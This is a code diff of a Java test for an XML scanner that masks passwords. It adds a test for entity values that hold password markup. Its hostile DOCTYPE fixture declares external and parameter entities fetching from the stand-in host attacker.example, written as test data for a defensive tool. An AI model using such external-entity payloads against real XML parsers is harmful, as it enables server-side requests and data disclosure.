@@ -29,7 +29,7 @@ final class XmlScannerHostileTest {
         + "  <!ENTITY web SYSTEM \"http://attacker.example/x\">\n"
         + "  <!ENTITY pub PUBLIC \"-//X//EN\" \"http://attacker.example/p.dtd\">\n"
         + "  <!ENTITY % pe SYSTEM \"http://attacker.example/evil.dtd\"> %pe;\n"
-        + "  <!ENTITY tricky \"]> <password>not an element</password>\">\n"
+        + "  <!ENTITY tricky \"]> &gt; ' \">\n"
         + "  <!-- ]> a comment with > and ] -->\n"
         + "  <?pi ]> ?>\n"
         + "]>\n";
@@ -38,6 +38,15 @@ final class XmlScannerHostileTest {
     XmlTesting.Result r = scan(in, PASSWORD);
     assertThat(r.text()).isEqualTo(in.replace("s3cret", "***"));
     assertThat(r.fallbacks()).isEmpty();
+  }
+
+  @Test
+  void entityValueHoldingElementsIsScannedAsMarkup() {
+    // &e; would expand to a password element: the value is read as markup and masked.
+    String in = "<!DOCTYPE r [<!ENTITY e \"<password>s3cret</password>\">]><r>&e;</r>";
+    XmlTesting.Result r = scan(in, PASSWORD);
+    assertThat(r.text()).isEqualTo(in.replace("s3cret", "***"));
+    assertThat(r.fallbacks()).contains(XmlScanner.NOTE_UNTERMINATED);
   }
 
   @Test
